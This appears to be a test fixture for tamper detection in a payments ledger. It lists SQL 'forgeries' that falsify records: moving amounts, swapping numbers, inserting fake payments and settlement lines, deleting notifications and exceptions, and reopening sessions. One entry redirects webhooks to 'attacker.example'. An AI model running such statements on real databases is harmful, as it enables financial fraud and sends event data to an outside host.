@@ -1,0 +1,221 @@
+/** Members by which a copied row differs from the original, so that no key refuses it; by table. */
+export const COPIES: Readonly<Record<string, Record<string, unknown>>> = {
+  catalogue_entries: { number: 1000 },
+  catalogue_minutes: { minute: "2026-01-01T00:00:00Z" },
+  catalogue_pending: { number: 1000 },
+  catalogues: { session_id: "ses_copy" },
+  confirmations: { transaction_id: "txn_copy" },
+  deliveries: { id: "evt_copy", transaction_id: "txn_copy" },
+  delivery_attempts: { number: 100 },
+  device_pairings: { id: "par_copy" },
+  exceptions: { id: "exc_copy", dedupe_key: "copy" },
+  notices: { id: "ntc_copy" },
+  operator_assignments: { id: "asg_copy" },
+  payments: { payment_key: "copy" },
+  retired_payments: { transaction_id: "txn_copy" },
+  reversals: { id: "rev_copy", reference: "copy" },
+  session_counters: { session_id: "ses_copy" },
+  session_totals: { operator_id: "op_copy" },
+  sessions: { session_id: "ses_copy", account_number: "0000000000", terminal_fragment: "copy" },
+  settlement_lines: { payment_key: "copy" },
+  settlement_totals: { settled_on: "2030-01-01" },
+  terminals: { terminal_id: "pos_copy" },
+  transactions: { id: "txn_copy", number: 1000, terminal_number: 1000 },
+};
+
+export interface Forgery {
+  what: string;
+  statements: string[];
+  /** Part of what is found. */
+  named: string;
+}
+
+const TWO_OF_ONE_MINUTE = `(select session_id, min(number) as one, max(number) as two from transactions
+  where status = 'successful' and terminal_id is null and settled_on is null
+  group by session_id, channel, date_trunc('minute', paid_at), operator_id having count(*) > 1 order by count(*) desc limit 1)`;
+
+const TWO_OF_ONE_STATEMENT = `(select session_id, min(number) as one, max(number) as two from transactions
+  group by session_id, created_at having count(*) > 1 limit 1)`;
+
+const FORGED = `insert into transactions select (jsonb_populate_record(t, jsonb_build_object('id', 'txn_forged', 'number', c.last_number + 1`;
+
+/** What somebody with access to the database can do who changes more than one value. */
+export const FORGERIES: Forgery[] = [
+  {
+    what: "a kobo moved between two payments of one minute",
+    statements: [
+      `update transactions t set amount = amount + case number when two then 1 else -1 end from ${TWO_OF_ONE_MINUTE} m
+        where t.session_id = m.session_id and number in (one, two)`,
+    ],
+    named: "amount of txn_",
+  },
+  {
+    what: "a swap of two numbers of one statement",
+    statements: [
+      `update transactions t set number = -(one + two - number) from ${TWO_OF_ONE_STATEMENT} m
+        where t.session_id = m.session_id and number in (one, two)`,
+      "update transactions set number = -number where number < 0",
+    ],
+    named: "search entry of number",
+  },
+  {
+    what: "a swap of two numbers",
+    statements: [
+      `update transactions t set number = -(1 + last_number - number) from session_counters c
+        where t.session_id = c.session_id and number in (1, last_number) and last_number > 10`,
+      "update transactions set number = -number where number < 0",
+    ],
+    named: "order of txn_",
+  },
+  {
+    what: "a payment without a notification, in every total",
+    statements: [
+      `${FORGED}, 'payment_key', 'forged', 'notice_id', 'ntc_forged'))).*
+        from transactions t join session_counters c using (session_id)
+        where t.channel = 'bank_transfer' and t.status = 'successful' and t.settled_on is null and t.number = c.last_number`,
+      `insert into payments select mode, bank_connection_id, payment_key, session_id, id, false from transactions where id = 'txn_forged'`,
+      `update session_counters c set last_number = last_number + 1 from transactions t where t.id = 'txn_forged' and t.session_id = c.session_id`,
+      `update session_totals s set count = count + 1, amount = s.amount + t.amount from transactions t
+        where t.id = 'txn_forged' and s.session_id = t.session_id and s.channel = t.channel and s.status = t.status and s.operator_id = ''`,
+    ],
+    named: "notification of txn_forged",
+  },
+  {
+    what: "a payment recorded twice from one notification",
+    statements: [
+      `${FORGED}))).* from transactions t join session_counters c using (session_id) where t.number = c.last_number`,
+    ],
+    named: "identity of txn_",
+  },
+  {
+    what: "the deletion of an identity, so that the same bytes are recorded again",
+    statements: ["delete from payments where transaction_id is not null and session_id is not null"],
+    named: "identity of txn_",
+  },
+  {
+    what: "a redirected identity",
+    statements: [
+      `update payments p set transaction_id = o.transaction_id from payments o
+        where p.session_id = o.session_id and p.payment_key < o.payment_key`,
+    ],
+    named: "identity of txn_",
+  },
+  {
+    what: "an event marked as delivered",
+    statements: [
+      `update deliveries set state = 'delivered', delivered_at = created_at, attempt_count = 1 where state = 'pending' and attempt_count = 0`,
+    ],
+    named: "state of event evt_",
+  },
+  {
+    what: "a changed event",
+    statements: [
+      `update deliveries set body = replace(body, '"status":"successful"', '"status":"failed"') where state = 'pending'`,
+    ],
+    named: "body of event evt_",
+  },
+  {
+    what: "a deleted event of a pending payment that is final now",
+    statements: [
+      `delete from deliveries d using transactions t where d.transaction_id = t.id and d.transaction_status = 'pending' and t.status <> 'pending'`,
+    ],
+    named: "pending event of txn_",
+  },
+  {
+    what: "a notification's body changed with its digest",
+    statements: [
+      `update notices set body = convert_to(replace(convert_from(body, 'UTF8'), 'Ngozi', 'Nkechi'), 'UTF8') where outcome = 'recorded' and provider = 'monnify'`,
+      "update notices set digest = sha256(body)",
+    ],
+    named: "sender name of txn_",
+  },
+  {
+    what: "a deleted notification of a payment",
+    statements: ["delete from notices where outcome = 'recorded' and provider = 'moniepoint'"],
+    named: "notification of txn_",
+  },
+  {
+    what: "an unknown adapter version",
+    statements: ["update notices set adapter_version = 99 where provider = 'moniepoint'"],
+    named: "adapter moniepoint version 99",
+  },
+  {
+    what: "an open exception that is deleted",
+    statements: ["delete from exceptions where reason = 'conflicting_repeat' and resolved_at is null"],
+    named: "exception of ntc_",
+  },
+  {
+    what: "an open exception that is resolved without its payment",
+    statements: [
+      `update exceptions set resolved_at = now(), resolution = 'recorded' where reason = 'unknown_destination' and resolved_at is null`,
+    ],
+    named: "need of a transaction of exc_",
+  },
+  {
+    what: "an exception about a notification that does not exist",
+    statements: [
+      `insert into exceptions select (jsonb_populate_record(e, '{"id": "exc_forged", "dedupe_key": "forged", "notice_id": "ntc_forged"}')).*
+        from exceptions e where reason = 'unknown_destination' limit 1`,
+    ],
+    named: "notification of exc_forged",
+  },
+  {
+    what: "a session that a member closed, opened again",
+    statements: [
+      `update session_counters c set status = 'active', closed_at = null from audit_entries a
+        where a.session_id = c.session_id and a.action = 'closed_event' and a.member_id is not null`,
+    ],
+    named: "state of the session",
+  },
+  {
+    what: "a session that a platform closed, opened again, with the exceptions of its late payments deleted",
+    statements: [
+      `delete from exceptions where reason = 'session_closed' and session_id in (select session_id from audit_entries where actor = 'API')`,
+      `update session_counters c set status = 'active', closed_at = null from audit_entries a
+        where a.session_id = c.session_id and a.action = 'closed_event' and a.actor = 'API'`,
+    ],
+    named: "state of the session",
+  },
+  {
+    what: "a pairing moved past its payments",
+    statements: ["update device_pairings set paired_from = '2030-01-01' where device = 'SN-0001'"],
+    named: "terminal of txn_",
+  },
+  {
+    what: "an assignment moved past its payments",
+    statements: [
+      "update operator_assignments set assigned_from = '2030-01-01' where operator_id in (select operator_id from transactions where terminal_id is not null)",
+    ],
+    named: "operator of txn_",
+  },
+  {
+    what: "an account number given to another session",
+    statements: [
+      `update sessions set account_number = '0000000001', account_generation = 0 where session_id = (select session_id from transactions where mode = 'live' limit 1)`,
+    ],
+    named: "account of txn_",
+  },
+  {
+    what: "events sent to another URL",
+    statements: [
+      `update sessions set webhook_url = 'https://attacker.example/hook' where webhook_url is not null and mode = 'test'`,
+      `update endpoints set url = 'https://attacker.example/hook' where mode = 'test'`,
+    ],
+    named: "webhook of the session",
+  },
+  {
+    what: "a payment that is settled without a settlement line",
+    statements: [
+      `update transactions set settled_on = '2026-11-21' where status = 'successful' and settled_on is null and channel = 'pos'`,
+    ],
+    named: "settlement of txn_",
+  },
+  {
+    what: "a settlement line that no settlement lists",
+    statements: [
+      `insert into settlement_lines select (jsonb_populate_record(l, '{"payment_key": "PAY-001", "id": "sln_forged"}')).*
+        from settlement_lines l where state = 'applied' limit 1`,
+    ],
+    named: "settlement line of PAY-001",
+  },
+];
